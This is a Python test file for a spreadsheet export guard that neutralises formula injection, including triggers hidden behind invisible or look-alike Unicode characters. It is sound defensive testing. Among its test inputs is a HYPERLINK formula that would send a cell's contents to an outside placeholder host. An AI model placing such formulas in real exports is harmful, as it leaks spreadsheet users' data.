"""The formula guard: safe for a spreadsheet, lossless for us."""

from __future__ import annotations

import re
import sys
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from db.exports.guard import INVISIBLE, TRIGGERS, guard, unguard

NASTY = "'=+-@\t\r\n\0 ;,\"a1\u200b\ufeff\u202e\u00ad\uff1d\uff0b\ufe62"
texts = st.one_of(st.text(), st.text(alphabet=NASTY))
_invisible = re.compile(f"[{INVISIBLE}]*")


@given(texts)
def test_unguard_undoes_guard(text: str) -> None:
    assert unguard(guard(text)) == text


@given(texts)
def test_a_guarded_cell_never_begins_with_a_trigger(text: str) -> None:
    cell = guard(text)
    # Looked at the cell as a program that drops invisible characters, one at a time, would.
    for start in range(len(_invisible.match(cell).group()) + 1):  # type: ignore[union-attr]
        assert cell[start : start + 1] not in tuple(TRIGGERS)


@given(texts)
def test_guard_adds_one_apostrophe_or_nothing(text: str) -> None:
    assert guard(text) in (text, "'" + text)


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://example.org/?x="&A1,"open")',
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "\0=1",
        "  =1",
        "\u200b=1",
        "\ufeff@x",
        "'=1",
        "''=1",
        "'\u200b'=1",
        "\uff1d1+1",
        "\ufe661",
    ],
)
def test_what_would_run_is_guarded(text: str) -> None:
    assert guard(text) == "'" + text


@pytest.mark.parametrize(
    "text", ["", "'", "''", "'tis the season", "Plain.", "a=b", " x", "שלום", "3-1"]
)
def test_what_is_harmless_is_left_alone(text: str) -> None:
    assert guard(text) == text
    assert unguard(text) == text


def test_every_character_without_a_shape_counts_as_invisible() -> None:
    """Whatever Unicode calls a control, a format character or a space."""
    missing = [
        f"U+{code:04X}"
        for code in range(sys.maxunicode + 1)
        if unicodedata.category(chr(code)) in ("Cc", "Cf", "Zs", "Zl", "Zp")
        and not _invisible.fullmatch(chr(code))
    ]
    assert missing == []


def test_a_long_run_of_invisible_characters_takes_linear_time() -> None:
    text = "' " * 300_000 + "x"
    assert unguard(guard(text)) == text
